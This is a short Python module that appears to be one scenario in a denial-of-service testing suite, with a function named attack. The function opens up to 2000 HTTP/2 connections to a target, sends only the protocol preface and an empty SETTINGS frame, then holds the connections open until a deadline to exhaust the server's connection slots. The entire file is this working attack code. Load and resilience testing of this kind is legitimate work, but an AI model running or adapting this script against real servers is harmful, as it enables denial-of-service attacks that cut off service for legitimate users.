"""Connections with everything in order and no call."""

import time

from cases import SOURCE, going
from http2 import PREFACE, SETTINGS, connect, frame

SLICE = False
HELD = 2000


def attack(target, until):
    held = []
    while going(until):
        if len(held) < HELD:
            try:
                one = connect(target, SOURCE)
                one.sendall(PREFACE + frame(SETTINGS, 0, 0))
                held.append(one)
                continue
            except OSError:
                pass
        time.sleep(0.05)
    for each in held:
        each.close()
